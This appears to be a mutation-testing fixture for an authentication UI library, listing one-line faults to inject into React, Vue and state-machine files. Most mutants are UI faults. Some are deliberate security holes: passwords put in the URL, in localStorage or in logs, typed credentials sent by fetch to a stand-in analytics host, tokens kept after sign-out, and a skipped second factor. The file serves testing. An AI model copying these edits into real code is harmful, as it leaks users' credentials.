/**
 * Faults that UIs and auth code really have, each as one replacement in one file. `find` occurs in
 * it exactly once (a test looks), so a mutant that has lost its place is noticed.
 *
 * @typedef {{ name: string, file: string, find: string, replace: string }} Mutant
 */

const machine = 'packages/machine/src'
const forms = `${machine}/forms`
const react = 'examples/react/src'
const vue = 'examples/vue/src'

/** @type {readonly Mutant[]} */
export const mutants = [
  // The screens of the apps.
  {
    name: 'React: the submit button stays enabled while a request is in flight',
    file: `${react}/auth-form.tsx`,
    find: '<button {...form.submitProps}>',
    replace: '<button {...form.submitProps} disabled={false}>',
  },
  {
    name: 'Vue: the submit button stays enabled while a request is in flight',
    file: `${vue}/auth-form.vue`,
    find: 'v-bind="form.submitProps"',
    replace: 'v-bind="{ ...form.submitProps, disabled: false }"',
  },
  {
    name: 'failures are shown, but not announced',
    file: `${react}/auth-form.tsx`,
    find: '<p className="alert" role="alert">',
    replace: '<p className="alert">',
  },
  {
    name: 'Vue: failures are shown, but not announced',
    file: `${vue}/auth-form.vue`,
    find: '<p class="alert" role="alert">',
    replace: '<p class="alert">',
  },
  {
    name: 'Vue: the last error stays on the screen for good',
    file: `${vue}/auth-form.vue`,
    find: '{{ form.error }}',
    replace: '{{ (groups.last = form.error ?? groups.last) }}',
  },
  {
    name: 'a screen is missing: the new password',
    file: `${react}/auth-screens.tsx`,
    find: '<AuthForm form={form} />',
    replace: "route !== 'newPassword' && <AuthForm form={form} />",
  },
  {
    name: 'Vue: a screen is missing: the reset of a password',
    file: `${vue}/auth-screens.vue`,
    find: '<AuthForm v-else :form />',
    replace: '<AuthForm v-else-if="form.route !== \'resetPassword\'" :form />',
  },
  {
    name: 'fields of a choice are not shown',
    file: `${react}/field.tsx`,
    find: '{options.map(',
    replace: '{options.slice(0, 0).map(',
  },

  // The forms.
  {
    name: 'failures are not shown',
    file: `${forms}/dress/dress-form.ts`,
    find: '!isPending && !own ? view.failure : undefined',
    replace: '!isPending && !own ? undefined : undefined',
  },
  {
    name: 'the last error stays while the next attempt is in flight',
    file: `${forms}/store/form-state.ts`,
    find: 'problems: isNewScreen || isNewRequest ? undefined : problems',
    replace: 'problems: isNewScreen && isNewRequest ? undefined : problems',
  },
  {
    name: 'the focus is left behind when the screen changes',
    file: `${forms}/store/settle-form.ts`,
    find: '  heading.focus()\n',
    replace: '',
  },
  {
    name: 'the focus is lost with the disabled button',
    file: `${forms}/store/settle-form.ts`,
    find: 'if (next ?? button) (next ?? button)?.focus()\n  else focusHeading(element, form)',
    replace: 'void [next, button, form]',
  },
  {
    name: 'the focus does not go to the rejected field',
    file: `${forms}/store/settle-form.ts`,
    find: '  if (!isTypingElsewhere(element)) input?.focus()\n',
    replace: '',
  },
  {
    name: 'a rejected code stays in its field',
    file: `${forms}/store/settle-form.ts`,
    find: "(rejected.kind === 'code' || isCurrent)",
    replace: 'isCurrent',
  },
  {
    name: 'a rejected password stays in its field',
    file: `${forms}/store/settle-form.ts`,
    find: "(rejected.kind === 'code' || isCurrent)",
    replace: "rejected.kind === 'code'",
  },
  {
    name: 'the password is in the address',
    file: `${forms}/store/form-store.ts`,
    find: '      const values = readValues(element)\n      isCancelled = false\n',
    replace:
      "      const values = readValues(element)\n      history.replaceState(null, '', '?' + new URLSearchParams(values))\n      isCancelled = false\n",
  },
  {
    name: 'the password is saved for later, in the storage',
    file: `${forms}/store/form-store.ts`,
    find: '      const values = readValues(element)\n      isCancelled = false\n',
    replace:
      "      const values = readValues(element)\n      localStorage.setItem('draft', JSON.stringify(values))\n      isCancelled = false\n",
  },
  {
    name: 'what was typed is logged',
    file: `${forms}/store/read-values.ts`,
    find: '  return values\n',
    replace: "  console.log('submit', values)\n  return values\n",
  },
  {
    name: 'what was typed goes to an analytics host',
    file: `${forms}/store/read-values.ts`,
    find: '  return values\n',
    replace:
      "  void fetch('https://stats.example/collect', { method: 'POST', body: new URLSearchParams(values).toString() }).catch(() => undefined)\n  return values\n",
  },
  {
    name: 'a form sends twice',
    file: `${forms}/store/form-store.ts`,
    find: '      const values = readValues(element)\n      isCancelled = false\n',
    replace:
      "      const values = readValues(element)\n      isCancelled = false\n      void fetch(String((window as never as { endpoint?: string }).endpoint ?? 'https://cognito-idp.us-east-1.amazonaws.com/'), { method: 'POST', headers: { 'x-amz-target': 'AWSCognitoIdentityProviderService.InitiateAuth', 'content-type': 'application/x-amz-json-1.1' }, body: '{}' }).catch(() => undefined)\n",
  },
  {
    name: 'a screen is missing: the question of the pool',
    file: `${forms}/describe/describe-form.ts`,
    find: 'return describeCustomChallenge(view, options)',
    replace: "return describeWaiting('restoring')",
  },
  {
    name: 'the place that a code went to is not shown',
    file: `${forms}/describe/destination.ts`,
    find: 'if (destination === undefined) return undefined',
    replace: 'if (destination !== typed[0]) return undefined',
  },
  {
    name: 'the username has to be typed again',
    file: `${forms}/bind-form.ts`,
    find: '{ value: field.initial }',
    replace: '{}',
  },
  {
    name: 'what cancels a request leaves the screen instead',
    file: `${forms}/describe/actions.ts`,
    find: '    act: view.cancel,',
    replace: '    act: () => void (location.hash = Math.random().toString(36)),',
  },
  {
    name: 'a new code can be requested again and again',
    file: `${forms}/describe/actions.ts`,
    find: '    isDisabled: !canResend,\n',
    replace: '',
  },
  {
    name: 'skipping leads nowhere',
    file: `${forms}/describe/contact-forms.ts`,
    find: 'act: skip }',
    replace: 'act: () => undefined }',
  },
  {
    name: '“remember this device” is not passed on',
    file: `${forms}/describe/challenge-forms.ts`,
    find: "rememberDevice: textOf(values, 'rememberDevice') !== ''",
    replace: 'rememberDevice: false',
  },
  {
    name: 'notices are never shown',
    file: `${forms}/dress/dress-form.ts`,
    find: 'if (view.notice) return noticeText(words, view.notice)',
    replace: "if (view.notice) return ''",
  },

  // The machine.
  {
    name: 'an unconfirmed user sees an error instead of the screen to confirm',
    file: `${machine}/chart/follow.ts`,
    find: "export const followSignInFailure = [\n  {\n    guard: { type: 'needsConfirmation', params: errorOf },\n    target: '#auth.confirmSignUp.resending',",
    replace:
      "export const followSignInFailure = [\n  {\n    guard: { type: 'needsConfirmation', params: errorOf },\n    target: 'editing',\n    actions: { type: 'setFailure', params: errorOf },",
  },
  {
    name: 'messages of the last attempt are not cleared',
    file: `${machine}/chart/actions.ts`,
    find: 'clearMessages: set(() => ({ failure: undefined, notice: undefined }))',
    replace: 'clearMessages: set(() => ({}))',
  },
  {
    name: 'the username is lost when a sign-in is cancelled',
    file: `${machine}/chart/states/sign-in.ts`,
    find: "      tags: ['pending'],\n      on: { 'signIn.cancel': { target: 'editing' } },\n      invoke: {\n        id: 'signIn',",
    replace:
      "      tags: ['pending'],\n      on: { 'signIn.cancel': { target: 'editing', actions: 'clearUsername' } },\n      invoke: {\n        id: 'signIn',",
  },
  {
    name: 'tokens stay in the storage after sign-out',
    file: `${machine}/cognito/stores/token-store.ts`,
    find: "    clear: () => guarded(clear, 'The storage did not remove the session'),",
    replace:
      "    clear: () => guarded(async () => void clear, 'The storage did not remove the session'),",
  },
  {
    name: 'a challenge that is over cannot be left: its screen stays',
    file: `${machine}/chart/guards.ts`,
    find: 'isChallengeOver: (_: unknown, { error }: Thrown) => endsChallenge(toFailure(error)),',
    replace:
      'isChallengeOver: (_: unknown, { error }: Thrown) => endsChallenge(toFailure(error)) && false,',
  },
  {
    name: 'a wrong code is shown as a wrong password',
    file: `${machine}/errors/failure-table.ts`,
    find: "  CodeMismatchException: [{ code: 'codeMismatch', field: 'code' }],",
    replace: "  CodeMismatchException: [{ code: 'incorrectCredentials', field: 'password' }],",
  },
  {
    name: 'a second factor is skipped: SMS codes are not required',
    file: `${machine}/chart/guards.ts`,
    find: "needsCode: (_: unknown, { type }: Outcome) => type === 'code',",
    replace: "needsCode: (_: unknown, { type }: Outcome) => type === 'codes',",
  },
  {
    name: 'the cool-down of a new code is never over',
    file: `${machine}/chart/states/code-entry.ts`,
    find: "        after: { resendCooldown: { target: 'ready' } },\n",
    replace: '',
  },
  {
    name: 'passwords come out of their envelope into the context',
    file: `${machine}/chart/actions.ts`,
    find: 'setUsername: set((_, { username }: { username: string }) => ({ username })),',
    replace:
      "setUsername: set((_, { username, ...more }: { username: string }) => ({ username: username + ('password' in more ? (more.password as { reveal(): string }).reveal() : '') })),",
  },
]
